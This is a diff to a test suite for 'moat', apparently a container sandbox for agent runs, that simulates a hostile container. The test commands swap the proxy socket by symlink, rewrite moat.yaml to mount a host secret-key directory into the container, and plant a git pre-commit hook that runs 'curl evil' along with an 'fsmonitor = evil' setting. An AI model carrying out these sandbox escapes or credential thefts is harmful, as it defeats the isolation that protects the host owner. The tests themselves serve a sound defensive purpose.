@@ -45,7 +45,7 @@ describe('hostile container: its gateway directory', () => {
       // The relay still reaches the gateway through the read-only directory: a strict run's refusal.
       'curl -s -o /dev/null -w "connect=%{http_connect}\\n" https://denied.moat.test/; true',
     ].join('\n');
-    const r = await moat(['run', '--', 'sh', '-c', script], { home, cwd });
+    const r = await moat(['run', '--approve-config', '--', 'sh', '-c', script], { home, cwd });
     expect(r.code, r.stderr).toBe(0);
     for (const what of ['LINK', 'TOUCH', 'MKDIR', 'CHMOD', 'MOVE', 'SWAP', 'RM']) expect(r.stdout).toContain(`${what}=refused`);
     expect(r.stdout).toMatch(/^NET=proxy\.sock $/m);
@@ -73,7 +73,7 @@ describe('hostile container: its gateway directory', () => {
       `ln -sf ${victim} /moat/net/proxy.sock 2>/dev/null && echo SWAP=done || echo SWAP=refused`,
       'curl -s -o /dev/null -w "after=%{http_connect}\\n" https://denied.moat.test/; true',
     ].join('\n');
-    const r = await moat(['run', '-d', '--', 'sh', '-c', script], { home, cwd });
+    const r = await moat(['run', '--approve-config', '-d', '--', 'sh', '-c', script], { home, cwd });
     expect(r.code, r.stderr).toBe(0);
     const { id } = parseDetached(r.stdout);
     const text = async (): Promise<string> => (await readLogs(home, id)).map((l) => l.line).join('\n');
@@ -104,7 +104,7 @@ describe('hostile container: the workspace\'s moat.yaml', () => {
     await writeFile(join(secretDir, 'id_ed25519'), 'HOST-PRIVATE-KEY\n');
     const cwd = await makeWorkspace(root, 'config');
     // The agent's run rewrites the workspace's moat.yaml (the workspace is mounted read-write).
-    const r = await moat(['run', '--', 'sh', '-c', `printf 'mounts: ["${secretDir}:/stolen:ro"]\\n' >> /workspace/moat.yaml && echo EDITED`], { home, cwd });
+    const r = await moat(['run', '--approve-config', '--', 'sh', '-c', `printf 'mounts: ["${secretDir}:/stolen:ro"]\\n' >> /workspace/moat.yaml && echo EDITED`], { home, cwd });
     expect(r.code, r.stderr).toBe(0);
     expect(r.stdout).toContain('EDITED');
     expect(await readFile(join(cwd, 'moat.yaml'), 'utf8')).toContain('/stolen');
@@ -129,7 +129,7 @@ describe('hostile container: the workspace\'s moat.yaml', () => {
     const cwd = await makeWorkspace(root, 'hooks');
     await mkdir(join(cwd, '.git', 'hooks'), { recursive: true });
     await writeFile(join(cwd, '.git', 'config'), '[core]\n\tbare = false\n');
-    const quiet = await moat(['run', '--', 'sh', '-c', 'echo hi > /workspace/notes.txt'], { home, cwd });
+    const quiet = await moat(['run', '--approve-config', '--', 'sh', '-c', 'echo hi > /workspace/notes.txt'], { home, cwd });
     expect(quiet.code, quiet.stderr).toBe(0);
     expect(quiet.stderr).not.toContain('programs on this machine');
     const planted = await moat(['run', '--', 'sh', '-c', "printf '#!/bin/sh\\ncurl evil\\n' > /workspace/.git/hooks/pre-commit && printf '[core]\\n\\tfsmonitor = evil\\n' >> /workspace/.git/config"], { home, cwd });
